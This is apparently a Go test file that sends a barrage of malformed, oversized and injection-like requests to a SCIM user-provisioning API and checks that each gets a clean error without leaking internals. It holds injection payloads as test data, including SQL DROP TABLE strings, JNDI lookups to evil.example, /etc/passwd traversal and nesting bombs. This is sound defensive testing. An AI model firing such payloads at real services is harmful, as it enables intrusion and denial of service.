package httpapi_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
)

// rawDo sends body as is with the given Content-Type (none if empty).
func (e *testEnv) rawDo(tb testing.TB, token, method, path, contentType string, body []byte) response {
	tb.Helper()
	var rd io.Reader
	if body != nil {
		rd = bytes.NewReader(body)
	}
	req, err := http.NewRequest(method, e.URL+path, rd)
	if err != nil {
		tb.Fatal(err)
	}
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		tb.Fatal(err)
	}
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	if err != nil {
		tb.Fatal(err)
	}
	return response{Status: res.StatusCode, Header: res.Header, Body: b}
}

// leakMarkers are fragments of Go and dependency internals that must never reach a client.
var leakMarkers = []string{
	"goroutine ", ".go:", "runtime.", "panic", "interface {}", "map[string]", "json: cannot", "go value",
	"eventstore:", "projections:", "nats:", "bbolt", "jetstream", "/work/", "[]interface",
}

// checkErrorBody checks that an error response is well formed for its route and says nothing
// about the server's internals.
func checkErrorBody(tb testing.TB, path string, res response) {
	tb.Helper()
	for _, m := range leakMarkers {
		if bytes.Contains(bytes.ToLower(res.Body), []byte(strings.ToLower(m))) {
			tb.Errorf("body leaks %q: %.300s", m, res.Body)
		}
	}
	var body map[string]any
	if err := json.Unmarshal(res.Body, &body); err != nil {
		tb.Fatalf("error body is not JSON: %v: %.300s", err, res.Body)
	}
	if strings.HasPrefix(path, "/scim/") {
		if ct := res.Header.Get("Content-Type"); !strings.HasPrefix(ct, "application/scim+json") {
			tb.Errorf("Content-Type = %q, want application/scim+json", ct)
		}
		schemas, _ := body["schemas"].([]any)
		if len(schemas) != 1 || schemas[0] != "urn:ietf:params:scim:api:messages:2.0:Error" {
			tb.Errorf("schemas = %v, want the SCIM Error schema", body["schemas"])
		}
		if body["status"] != fmt.Sprint(res.Status) {
			tb.Errorf("status = %v, want %q", body["status"], fmt.Sprint(res.Status))
		}
		if d, _ := body["detail"].(string); d == "" {
			tb.Errorf("no detail: %s", res.Body)
		}
		return
	}
	if e, _ := body["error"].(string); e == "" || body["code"] == nil {
		tb.Errorf("body = %.300s, want {error, code}", res.Body)
	}
}

// nested returns a JSON object whose "x" attribute nests depth arrays.
func nested(depth int) []byte {
	var b bytes.Buffer
	b.WriteString(`{"userName":"deep","x":`)
	b.WriteString(strings.Repeat("[", depth))
	b.WriteString(strings.Repeat("]", depth))
	b.WriteString(`}`)
	return b.Bytes()
}

// userWith returns a user body with extra attributes given as raw JSON.
func userWith(extra string) []byte {
	return []byte(`{"schemas":["urn:ietf:params:scim:schemas:core:2.0:User"],"userName":"hostile@example.com",` + extra + `}`)
}

func manyEmails(n int) string {
	var b strings.Builder
	b.WriteString(`"emails":[`)
	for i := range n {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, `{"value":"u%d@example.com"}`, i)
	}
	b.WriteString(`]`)
	return b.String()
}

// escapeBomb fills nearly the whole body limit with characters that JSON encoding may expand
// six-fold ("<" becomes \u003c), spread over attributes that are each within their own limit.
func escapeBomb() string {
	var parts []string
	for i := range 14 {
		parts = append(parts, fmt.Sprintf(`"k%d":%q`, i, strings.Repeat("<", 60<<10)))
	}
	return `"urn:example:bomb:1.0:User":{` + strings.Join(parts, ",") + `}`
}

// hostileQuery builds a list path with a query parameter encoded as a client would.
func hostileQuery(path, key, value string) string {
	return path + "?" + url.Values{key: {value}}.Encode()
}

// TestHostileRequests sends malformed, oversized and injection-like requests through the real
// server: each gets a proper error (never a 5xx or internals in the body) and nothing reaches
// the log.
func TestHostileRequests(t *testing.T) {
	e := newAuditEnv(t) // wired as cmd wires it, audit on (audit_test.go)
	tenant, token := e.tenant(t, "Acme")
	res := e.do(t, token, "POST", "/scim/v2/Users", `{"userName":"ada@example.com"}`)
	if res.Status != http.StatusCreated {
		t.Fatalf("create ada: %d %s", res.Status, res.Body)
	}
	ada := "/scim/v2/Users/" + res.JSON(t)["id"].(string)
	res = e.do(t, token, "POST", "/scim/v2/Groups", `{"displayName":"Staff"}`)
	if res.Status != http.StatusCreated {
		t.Fatalf("create group: %d %s", res.Status, res.Body)
	}
	staff := "/scim/v2/Groups/" + res.JSON(t)["id"].(string)
	manualID, _ := e.tenant(t, "Manual") // not provisioning-managed: its company API writes
	manual := e.apiKey(t, manualID)
	key := e.apiKey(t, tenant)

	const scimJSON = "application/scim+json"
	type hostile struct {
		name        string
		token       string // default: the company's SCIM token; "-" none; "key": its API key; "manual": the API key of a company managed locally
		method      string
		path        string
		contentType string // default: application/scim+json when there is a body
		body        []byte
		status      []int  // acceptable statuses
		scimType    string // expected scimType, if any
	}
	list := func(path, key, value string) hostile {
		return hostile{name: key + "=" + value, method: "GET", path: hostileQuery(path, key, value), status: []int{200, 400}}
	}
	tests := []hostile{
		// Malformed JSON.
		{name: "truncated object", method: "POST", path: "/scim/v2/Users", body: []byte(`{"userName":`), status: []int{400}, scimType: "invalidSyntax"},
		{name: "trailing comma", method: "POST", path: "/scim/v2/Users", body: []byte(`{"userName":"a",}`), status: []int{400}, scimType: "invalidSyntax"},
		{name: "single quotes", method: "POST", path: "/scim/v2/Users", body: []byte(`{'userName':'a'}`), status: []int{400}, scimType: "invalidSyntax"},
		{name: "array body", method: "POST", path: "/scim/v2/Users", body: []byte(`[{"userName":"a"}]`), status: []int{400}, scimType: "invalidSyntax"},
		{name: "string body", method: "POST", path: "/scim/v2/Users", body: []byte(`"userName"`), status: []int{400}, scimType: "invalidSyntax"},
		{name: "null body", method: "POST", path: "/scim/v2/Users", body: []byte(`null`), status: []int{400}, scimType: "invalidSyntax"},
		{name: "empty body", method: "POST", path: "/scim/v2/Users", body: []byte{}, status: []int{400}, scimType: "invalidSyntax"},
		{name: "two objects", method: "POST", path: "/scim/v2/Users", body: []byte(`{"userName":"a"}{"userName":"b"}`), status: []int{400}, scimType: "invalidSyntax"},
		{name: "huge number", method: "POST", path: "/scim/v2/Users", body: userWith(`"x":1e999`), status: []int{400}, scimType: "invalidValue"},
		{name: "userName not a string", method: "POST", path: "/scim/v2/Users", body: []byte(`{"userName":{"a":1}}`), status: []int{400}, scimType: "invalidValue"},
		{name: "PUT malformed", method: "PUT", path: ada, body: []byte(`{"userName":"a"`), status: []int{400}, scimType: "invalidSyntax"},
		{name: "PATCH malformed", method: "PATCH", path: ada, body: []byte(`{"Operations":[}`), status: []int{400}, scimType: "invalidSyntax"},
		{name: "PATCH ops not a list", method: "PATCH", path: ada, body: []byte(`{"Operations":"replace"}`), status: []int{400}},
		{name: "group PATCH malformed", method: "PATCH", path: staff, body: []byte(`{"Operations":[{"op":"add","path":"members","value":[{"value":`), status: []int{400}, scimType: "invalidSyntax"},
		{name: "admin malformed", token: testAdminToken, method: "POST", path: "/admin/v1/tenants", body: []byte(`{"name":`), status: []int{400}},
		{name: "company API malformed", token: "manual", method: "POST", path: "/api/v1/users", body: []byte(`{"email":`), status: []int{400}},

		// Content types: SCIM writes take JSON only.
		{name: "text/plain", method: "POST", path: "/scim/v2/Users", contentType: "text/plain", body: userWith(`"active":true`), status: []int{415}},
		{name: "application/xml", method: "POST", path: "/scim/v2/Users", contentType: "application/xml", body: []byte(`<user><userName>a</userName></user>`), status: []int{415}},
		{name: "form", method: "PUT", path: ada, contentType: "application/x-www-form-urlencoded", body: []byte(`userName=a`), status: []int{415}},
		{name: "multipart", method: "PATCH", path: ada, contentType: "multipart/form-data; boundary=x", body: []byte("--x--"), status: []int{415}},
		{name: "garbage content type", method: "POST", path: "/scim/v2/Groups", contentType: "application/json;;;=", body: []byte(`{"displayName":"x"}`), status: []int{415}},

		// Size.
		{name: "body over the limit", method: "POST", path: "/scim/v2/Users", body: userWith(`"displayName":"` + strings.Repeat("x", 2<<20) + `"`), status: []int{413}},
		{name: "PATCH over the limit", method: "PATCH", path: ada, body: []byte(`{"Operations":[{"op":"replace","path":"displayName","value":"` + strings.Repeat("x", 1<<20) + `"}]}`), status: []int{413}},
		{name: "megabyte displayName within the body limit", method: "POST", path: "/scim/v2/Users", body: userWith(`"displayName":"` + strings.Repeat("x", 900<<10) + `"`), status: []int{400}, scimType: "invalidValue"},
		{name: "long userName", method: "POST", path: "/scim/v2/Users", body: []byte(`{"userName":"` + strings.Repeat("a", 70<<10) + `"}`), status: []int{400}, scimType: "invalidValue"},
		{name: "long value by PATCH", method: "PATCH", path: ada, body: []byte(`{"Operations":[{"op":"replace","path":"title","value":"` + strings.Repeat("t", 100<<10) + `"}]}`), status: []int{400}, scimType: "invalidValue"},
		{name: "long group name", method: "POST", path: "/scim/v2/Groups", body: []byte(`{"displayName":"` + strings.Repeat("g", 100<<10) + `"}`), status: []int{400}, scimType: "invalidValue"},
		{name: "long group name by PATCH", method: "PATCH", path: staff, body: []byte(`{"Operations":[{"op":"replace","path":"displayName","value":"` + strings.Repeat("g", 40<<10) + `"}]}`), status: []int{400}, scimType: "invalidValue"},
		{name: "long group externalId", method: "PUT", path: staff, body: []byte(`{"displayName":"Staff","externalId":"` + strings.Repeat("e", 40<<10) + `"}`), status: []int{400}, scimType: "invalidValue"},
		{name: "long email by PATCH filter", method: "PATCH", path: ada, body: []byte(`{"Operations":[{"op":"add","path":"emails[type eq \"work\"].value","value":"` + strings.Repeat("m", 40<<10) + `@x"}]}`), status: []int{400}, scimType: "invalidValue"},
		{name: "company API long email", token: "manual", method: "POST", path: "/api/v1/users", body: []byte(`{"email":"` + strings.Repeat("m", 40<<10) + `@x"}`), status: []int{400}},
		{name: "company API long name", token: "manual", method: "POST", path: "/api/v1/users", body: []byte(`{"email":"n@x","name":"` + strings.Repeat("n", 100<<10) + `"}`), status: []int{400}},
		{name: "10k emails", method: "POST", path: "/scim/v2/Users", body: userWith(manyEmails(10000)), status: []int{400}, scimType: "invalidValue"},
		{name: "10k-element extension array", method: "POST", path: "/scim/v2/Users", body: userWith(`"urn:example:x:1.0:User":{"tags":[` + strings.Repeat(`"t",`, 9999) + `"t"]}`), status: []int{400}, scimType: "invalidValue"},
		{name: "10k PATCH operations", method: "PATCH", path: ada, body: []byte(`{"Operations":[` + strings.Repeat(`{"op":"replace","path":"title","value":"t"},`, 9999) + `{"op":"replace","path":"title","value":"t"}]}`), status: []int{400}},
		{name: "escape bomb", method: "POST", path: "/scim/v2/Users", body: userWith(escapeBomb()), status: []int{400}, scimType: "invalidValue"},

		// Nesting.
		{name: "100k-deep nesting", method: "POST", path: "/scim/v2/Users", body: nested(100_000), status: []int{400}, scimType: "invalidSyntax"},
		{name: "10k-deep nesting", method: "POST", path: "/scim/v2/Users", body: nested(10_000), status: []int{400}, scimType: "invalidSyntax"},
		{name: "100-deep nesting", method: "PUT", path: ada, body: nested(100), status: []int{400}, scimType: "invalidSyntax"},
		{name: "deep objects", method: "POST", path: "/scim/v2/Groups", body: []byte(`{"displayName":"d","urn:x":` + strings.Repeat(`{"a":`, 5000) + `1` + strings.Repeat(`}`, 5000) + `}`), status: []int{400}, scimType: "invalidSyntax"},
		{name: "deep admin body", token: testAdminToken, method: "POST", path: "/admin/v1/tenants", body: []byte(`{"name":"x","y":` + strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000) + `}`), status: []int{400}},

		// Encoding.
		{name: "invalid UTF-8 value", method: "POST", path: "/scim/v2/Users", body: []byte("{\"userName\":\"a\xff\xfeb\"}"), status: []int{400}, scimType: "invalidSyntax"},
		{name: "invalid UTF-8 key", method: "POST", path: "/scim/v2/Users", body: []byte("{\"userName\":\"ok\",\"\xc0\xaf\":1}"), status: []int{400}, scimType: "invalidSyntax"},
		{name: "UTF-16 body", method: "POST", path: "/scim/v2/Users", body: []byte("\xff\xfe{\x00\"\x00}\x00"), status: []int{400}, scimType: "invalidSyntax"},
		{name: "escaped NUL in userName", method: "POST", path: "/scim/v2/Users", body: []byte(`{"userName":"a\u0000b"}`), status: []int{400}, scimType: "invalidValue"},
		{name: "line break in userName", method: "POST", path: "/scim/v2/Users", body: []byte(`{"userName":"admin\r\nX-Injected: 1"}`), status: []int{400}, scimType: "invalidValue"},
		// A lone surrogate escape decodes to U+FFFD (RFC 8259 §8.2 leaves it to the parser), which
		// the userName rule refuses: it stands for a character that was lost, so two different
		// names would become one identity.
		{name: "lone surrogate", method: "POST", path: "/scim/v2/Users", body: []byte(`{"userName":"\ud800"}`), status: []int{400}},
		{name: "raw NUL in userName", method: "POST", path: "/scim/v2/Users", body: []byte(`{"userName":"` + "\u0000" + `"}`), status: []int{400}},
		{name: "invalid UTF-8 in the company API", token: "manual", method: "POST", path: "/api/v1/users", body: []byte("{\"email\":\"\xff@x\"}"), status: []int{400}},

		// Filters that look like injections: a SCIM filter error or an empty list.
		list("/scim/v2/Users", "filter", `userName eq "x" or 1 eq 1`),
		list("/scim/v2/Users", "filter", `userName eq "x"; DROP TABLE users; --`),
		list("/scim/v2/Users", "filter", `"; DROP TABLE users; --`),
		list("/scim/v2/Users", "filter", `userName eq "${jndi:ldap://evil.example/a}"`),
		list("/scim/v2/Users", "filter", `${jndi:ldap://evil.example/a}`),
		list("/scim/v2/Users", "filter", strings.Repeat("(", 10000)+`userName eq "x"`+strings.Repeat(")", 10000)),
		list("/scim/v2/Users", "filter", strings.Repeat("(", 1000)+`userName eq "x"`+strings.Repeat(")", 1000)),
		list("/scim/v2/Users", "filter", strings.Repeat(`not (`, 1000)+`userName pr`+strings.Repeat(")", 1000)),
		list("/scim/v2/Users", "filter", strings.Repeat(`emails[`, 100)+`value eq "x"`+strings.Repeat(`]`, 100)),
		list("/scim/v2/Users", "filter", `userName eq "x"]`),
		list("/scim/v2/Users", "filter", `userName eq "x\u0000"`),
		list("/scim/v2/Users", "filter", `userName eq "`+strings.Repeat("a", 100<<10)+`"`),
		list("/scim/v2/Users", "filter", "userName eq \"\xff\""),
		list("/scim/v2/Users", "filter", `userName eq "x" and (`+strings.Repeat(`userName eq "y" or `, 500)+`userName eq "z")`),
		list("/scim/v2/Users", "filter", `userName sw ""`),
		list("/scim/v2/Users", "filter", `userName co "%" or userName co "*" or userName co ".*"`),
		list("/scim/v2/Users", "filter", `meta.lastModified gt "not a date"`),
		list("/scim/v2/Groups", "filter", `members[value eq "x" or value pr]`),
		list("/scim/v2/Groups", "filter", `displayName eq "x" or members.value eq "`+strings.Repeat("'", 1000)+`"`),
		list("/scim/v2/Users", "sortBy", `userName"; DROP`),
		list("/scim/v2/Users", "attributes", strings.Repeat("a,", 10000)),
		list("/scim/v2/Users", "excludedAttributes", `${jndi:x}`),

		// Paging.
		list("/scim/v2/Users", "startIndex", "-1"),
		list("/scim/v2/Users", "startIndex", "0"),
		list("/scim/v2/Users", "startIndex", "9223372036854775807"),
		list("/scim/v2/Users", "startIndex", "99999999999999999999999"),
		list("/scim/v2/Users", "startIndex", "1e9"),
		list("/scim/v2/Users", "count", "-5"),
		list("/scim/v2/Users", "count", "9223372036854775807"),
		list("/scim/v2/Users", "count", "abc"),
		list("/scim/v2/Groups", "startIndex", "-9223372036854775808"),
		list("/scim/v2/Groups", "count", "1000000000"),
		{name: "startIndex and sortBy at the end", method: "GET", path: "/scim/v2/Users?sortBy=userName&startIndex=9223372036854775807&count=9223372036854775807", status: []int{200}},

		// Ids that are not ids, including NATS subject wildcards.
		{name: "wildcard id GET", method: "GET", path: "/scim/v2/Users/*", status: []int{404}},
		{name: "wildcard id PUT", method: "PUT", path: "/scim/v2/Users/%3E", body: userWith(`"active":true`), status: []int{404}},
		{name: "dotted id PATCH", method: "PATCH", path: "/scim/v2/Users/a.b", body: []byte(`{"Operations":[{"op":"replace","path":"active","value":false}]}`), status: []int{404}},
		{name: "wildcard id DELETE", method: "DELETE", path: "/scim/v2/Users/%3E", status: []int{404}},
		{name: "wildcard group DELETE", method: "DELETE", path: "/scim/v2/Groups/*", status: []int{404}},
		{name: "space id", method: "DELETE", path: "/scim/v2/Groups/a%20b", status: []int{404}},
		{name: "long id", method: "GET", path: "/scim/v2/Users/" + strings.Repeat("a", 10000), status: []int{404}},
		{name: "encoded slash id", method: "DELETE", path: "/scim/v2/Users/..%2F..%2Fadmin", status: []int{404}},
		{name: "wildcard tenant", token: testAdminToken, method: "PATCH", path: "/admin/v1/tenants/%3E", body: []byte(`{"features":{"groups":false}}`), status: []int{404}},
		{name: "company API wildcard id", token: "key", method: "DELETE", path: "/api/v1/users/%3E", status: []int{404, 409}},

		// Unknown routes and methods.
		{name: "unknown SCIM resource", method: "GET", path: "/scim/v2/Nope", status: []int{404}},
		{name: "SCIM Bulk", method: "POST", path: "/scim/v2/Bulk", body: []byte(`{}`), status: []int{404, 501}},
		{name: "DELETE the collection", method: "DELETE", path: "/scim/v2/Users", status: []int{404, 405}},
		{name: "PATCH ServiceProviderConfig", method: "PATCH", path: "/scim/v2/ServiceProviderConfig", body: []byte(`{}`), status: []int{404, 405}},
		{name: "TRACE", method: "TRACE", path: "/scim/v2/Users", status: []int{404, 405}},
		{name: "made-up method", method: "BREW", path: ada, status: []int{404, 405}},
		{name: "SCIM v1", method: "GET", path: "/scim/v1/Users", status: []int{404}},
		{name: "unknown route", method: "GET", path: "/nope", status: []int{404}},
		{name: "unknown admin route", token: testAdminToken, method: "DELETE", path: "/admin/v1/tenants", status: []int{404, 405}},
		{name: "unknown API route", method: "GET", path: "/api/v2/users", status: []int{404}},
		{name: "method on health", method: "POST", path: "/healthz", body: []byte(`{}`), status: []int{404, 405}},
		{name: "path traversal", method: "GET", path: "/scim/v2/../../etc/passwd", status: []int{401, 404}},
		{name: "no token", token: "-", method: "POST", path: "/scim/v2/Users", body: userWith(`"active":true`), status: []int{401}},
		{name: "wrong token", token: "idl_wrong", method: "DELETE", path: ada, status: []int{401}},
	}
	before := streamCount(t, e)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			token := token
			switch tt.token {
			case "":
			case "-":
				token = ""
			case "manual":
				token = manual
			case "key":
				token = key
			default:
				token = tt.token
			}
			ct := tt.contentType
			if ct == "" && tt.body != nil {
				ct = scimJSON
			}
			res := e.rawDo(t, token, tt.method, tt.path, ct, tt.body)
			if res.Status >= 500 || !slices.Contains(tt.status, res.Status) {
				t.Errorf("status = %d, want one of %v: %.300s", res.Status, tt.status, res.Body)
			}
			if testing.Verbose() {
				t.Logf("%d %.200s", res.Status, res.Body)
			}
			if res.Status >= 400 {
				checkErrorBody(t, strings.SplitN(tt.path, "?", 2)[0], res)
				if tt.scimType != "" {
					if got := res.JSON(t)["scimType"]; got != tt.scimType {
						t.Errorf("scimType = %v, want %s: %.300s", got, tt.scimType, res.Body)
					}
				}
			}
			if res.Status < 300 {
				before = streamCount(t, e) // an accepted oddity (see its row)
				return
			}
			if n := streamCount(t, e); n != before {
				t.Errorf("stream has %d messages, want %d: the request reached the log", n, before)
				before = n
			}
		})
	}
	t.Logf("%d hostile requests for company %s", len(tests), tenant)

	// The projector is still running (no hostile value broke a read-model write) and the
	// company's normal client is served.
	if res := e.do(t, "", "GET", "/healthz", ""); res.Status != http.StatusOK {
		t.Errorf("healthz after the barrage: %d %s", res.Status, res.Body)
	}
	if res := e.do(t, token, "POST", "/scim/v2/Users", `{"userName":"after@example.com"}`); res.Status != http.StatusCreated {
		t.Errorf("create after the barrage: %d %s", res.Status, res.Body)
	}
	res = e.do(t, token, "GET", hostileQuery("/scim/v2/Users", "filter", `userName eq "after@example.com"`), "")
	if res.Status != http.StatusOK || res.JSON(t)["totalResults"] != float64(1) {
		t.Errorf("read after the barrage: %d %s", res.Status, res.Body)
	}
}

// TestHostileRequests_ContentTypesAccepted checks the JSON media types SCIM clients send.
func TestHostileRequests_ContentTypesAccepted(t *testing.T) {
	e := newTestEnv(t)
	_, token := e.tenant(t, "Acme")
	for i, ct := range []string{
		"application/scim+json", "application/json", "application/scim+json; charset=utf-8",
		"application/json; charset=UTF-8", "Application/SCIM+JSON", "",
	} {
		body := fmt.Sprintf(`{"userName":"u%d@example.com"}`, i)
		if res := e.rawDo(t, token, "POST", "/scim/v2/Users", ct, []byte(body)); res.Status != http.StatusCreated {
			t.Errorf("Content-Type %q: %d %s", ct, res.Status, res.Body)
		}
	}
	// The operator and company APIs are lenient: curl -d sends a form content type.
	if res := e.rawDo(t, testAdminToken, "POST", "/admin/v1/tenants", "application/x-www-form-urlencoded", []byte(`{"name":"Curl"}`)); res.Status != http.StatusCreated {
		t.Errorf("admin with curl's default content type: %d %s", res.Status, res.Body)
	}
}
